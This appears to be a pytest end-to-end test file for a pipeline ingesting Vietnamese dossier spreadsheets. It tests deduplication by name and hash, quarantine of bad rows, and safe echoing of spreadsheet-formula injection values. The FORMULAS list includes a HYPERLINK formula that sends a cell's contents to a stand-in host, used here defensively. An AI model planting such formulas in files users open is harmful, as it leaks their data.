"""The given cases on dossiers, and other instances of their kinds: a file known by its name, rows beyond what a tool lists."""

from __future__ import annotations

import json
from collections.abc import Sequence
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from assets.returns.answers import write_answers
from tests.e2e.conftest import Make
from tests.e2e.flows import World, codes, said, text_csv, worded, workbook

HEAD = (
    "STT", "Mã hồ sơ", "Mã thủ tục", "Mã xã", "Ngày tiếp nhận", "Ngày hẹn trả", "Ngày trả kết quả", "Hình thức", "Lệ phí",
)  # fmt: skip
FIRST = datetime(2026, 6, 1, 8)


@pytest.fixture
def house(make_world: Make, shared: Path) -> World:
    """A world with the communes of the cases."""
    return make_world(reference=shared / "cases" / "_reference")


def _submissions(folder: Path) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = json.loads((folder / "case.json").read_text(encoding="utf-8"))["submissions"]
    return found


def _send(world: World, folder: Path, submission: dict[str, Any]) -> str:
    # the cases name the month instead of a day
    return world.drop(
        submission["sender"],
        (folder / submission["path"]).read_bytes(),
        Path(submission["path"]).name,
        period=submission["as_of"],
        at=datetime.fromisoformat(submission["received_at"]),
    )


def _dossiers(world: World, *columns: str) -> list[tuple[Any, ...]]:
    wanted = ", ".join(columns or ("dossier_number", "finished_on"))
    return world.rows(f"select {wanted} from mart_v1.dossiers order by dossier_number")


def _row(n: int, *, due: int | None = 2, finished: int | None = None, commune: str = "05961") -> tuple[Any, ...]:
    """A dossier; ``due`` and ``finished`` in days after its receipt."""
    received = FIRST + timedelta(minutes=n)
    ends = [None if h is None else received + timedelta(days=h) for h in (due, finished)]
    return (n, f"H99.{commune}-2606-{n:05}", "1.004222", commune, received, *ends, "Trực tuyến", 2000)


def _csv(*rows: Sequence[Any]) -> bytes:
    def text(cell: Any) -> Any:
        return f"{cell:%d/%m/%Y %H:%M}" if isinstance(cell, datetime) else "" if cell is None else cell

    return text_csv([HEAD, *(map(text, row) for row in rows)])


def test_a_new_file_under_the_old_name_and_the_old_file_under_a_new_name(house: World, shared: Path) -> None:
    folder = shared / "cases" / "G14"
    places, counts = [], []
    for submission in _submissions(folder):
        places.append(_send(house, folder, submission))
        house.run()
        counts.append(house.rows("select count(*), max(publish_from) from core.dossiers"))
    assert _dossiers(house) == [
        ("H99.05961-260610-0001", date(2026, 6, 20)),
        ("H99.05961-260611-0002", None),
    ]
    one, two = house.submissions(places[0])  # one name, two loads
    three = house.submission(places[2])
    assert [a["counts"]["accepted"] for a in (one, two)] == [2, 2]
    assert one["sha256"] != two["sha256"] == three["sha256"]
    assert (three["state"], three["predecessor"]) == ("repeated", two["submission_id"])
    assert counts[1] == counts[2], "the file sent again made a version"


@pytest.mark.parametrize("order", [(0, 2, 1), (2, 1, 0), (1, 0, 2)], ids=str)
def test_it_does_not_depend_on_the_order(order: Sequence[int], house: World, shared: Path) -> None:
    folder = shared / "cases" / "G14"
    submissions = _submissions(folder)
    for i in order:
        _send(house, folder, submissions[i])
        house.run()
    assert _dossiers(house)[0][1] == date(2026, 6, 20)
    assert _dossiers(house)[1][1] is None
    assert house.rows("select count(distinct entity_id) from core.dossiers") == [(2,)]


def test_the_old_file_under_a_new_name_after_a_newer_one_is_held(house: World) -> None:
    old, new = _csv(_row(1), _row(2)), _csv(_row(1, finished=5), _row(2))
    for data, name in ((old, "hoso.csv"), (new, "hoso.csv"), (old, "hoso (1).csv")):
        last = house.drop("05961", data, name, period="2026-06")
        house.run()
    assert _dossiers(house, "dossier_number", "finished_on is null") == [
        ("H99.05961-2606-00001", False), ("H99.05961-2606-00002", True),
    ]  # fmt: skip
    answered = house.submission(last)
    assert (answered["state"], codes(answered)) == ("held", ["RESEND_OF_OLDER"])
    worded(answered)


def test_three_times_other_bytes_under_one_name(house: World) -> None:
    for days in (None, 5, 7):
        place = house.drop("05961", _csv(_row(1, finished=days)), "hoso.csv", period="2026-06")
        house.run()
    answers = house.submissions(place)
    assert len({a["sha256"] for a in answers}) == len(answers) == 3
    assert [a["counts"]["accepted"] for a in answers] == [1, 1, 1]
    ((finished,),) = _dossiers(house, "finished_on - received_on")
    assert finished == 7


def test_three_names_for_the_same_bytes_are_one_load(house: World) -> None:
    places = [house.drop("05961", _csv(_row(1)), name, period="2026-06") for name in ("a.csv", "b.csv", "c.xlsx")]
    house.run()
    states = [house.submission(p)["state"] for p in places]
    assert states == ["accepted", "repeated", "repeated"]
    assert len(_dossiers(house)) == 1


def test_more_bad_rows_than_a_tool_lists(house: World, shared: Path) -> None:
    folder = shared / "cases" / "G15"
    (submission,) = _submissions(folder)
    answered = house.submission((_send(house, folder, submission), house.run())[0])
    rule = "due_not_before_received"
    assert {r["row"] for r in answered["rows"] if r["rule"] == rule} == set(range(2, 252))
    assert {r["row"] for r in answered["rows"]} == set(range(2, 252))
    assert answered["counts"] == {"read": 301, "accepted": 50, "quarantined": 250, "set_aside": 1, "flagged": 0}
    assert answered["set_aside"] == {"HEADER": 1}
    found = _dossiers(house, "dossier_number", "finished_on")
    assert [f[0] for f in found] == [f"H99.05962-2606-{n:04}" for n in range(251, 301)]
    assert sum(f[1] is None for f in found) == 33


@pytest.mark.parametrize("form", ["xlsx", "csv"])
def test_five_thousand_bad_rows_are_all_named(form: str, house: World) -> None:
    bad = [_row(n, due=-n, finished=5 if n % 3 else None) for n in range(1, 5001)]
    good = [_row(n, finished=24 if n % 2 else None) for n in range(5001, 5601)]
    rows = [row for pair in zip(bad[:600], good, strict=True) for row in pair] + bad[600:]
    data = _csv(*rows) if form == "csv" else workbook([HEAD, *rows])
    answered = house.submission((house.drop("05961", data, f"hoso.{form}", period="2026-06"), house.run())[0])
    wrong = {n for n, row in enumerate(rows, 2) if row[0] <= 5000}
    assert len({r["row"] for r in answered["rows"]}) == 5000
    assert {r["row"] for r in answered["rows"]} == wrong
    assert {rule for _, rule in said(answered)} == {"due_not_before_received"}
    assert answered["counts"]["accepted"] == len(_dossiers(house)) == 600


def test_a_rule_blames_no_row_for_a_blank(house: World) -> None:
    rows = [
        _row(1), _row(2, finished=3), _row(3, finished=-3), _row(4, due=-1), _row(5, due=0, finished=0), _row(6, due=None),
    ]  # fmt: skip
    answered = house.submission(
        (house.drop("05961", workbook([HEAD, *rows]), "hoso.xlsx", period="2026-06"), house.run())[0]
    )
    assert said(answered) == {
        ("G4", "finished_not_before_received"),
        ("F5", "due_not_before_received"),
        ("F7", "MISSING"),
    }
    assert [r[0][-1] for r in _dossiers(house)] == ["1", "2", "5"]


FORMULAS = [
    '=HYPERLINK("http://vi-du.invalid/?x="&B2)', "@SUM(1+1)*cmd", "+84", "-1+1", "＝1+1", "'=1+1", '"=1"', "a;=1+1", " =1+1",
    "\t=1",
]  # fmt: skip


def test_what_a_spreadsheet_would_run_is_told_back_as_sent_and_in_no_spreadsheet(house: World, tmp_path: Path) -> None:
    rows = [(*_row(n)[:7], formula, 0) for n, formula in enumerate(FORMULAS, 1)]
    answered = house.submission((house.drop("05961", _csv(*rows), "hoso.csv", period="2026-06"), house.run())[0])
    assert [r["value"] for r in answered["rows"]] == FORMULAS
    kept = house.rows("select raw ->> 'channel' from staging.quarantine order by row")
    assert [r[0] for r in kept] == FORMULAS
    with house.connection() as connection:
        write_answers(connection, house.pipeline.contracts, tmp_path, [answered["submission_id"]])
    (file,) = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert file.suffix == ".json"
    assert [r["value"] for r in json.loads(file.read_text(encoding="utf-8"))["rows"]] == FORMULAS
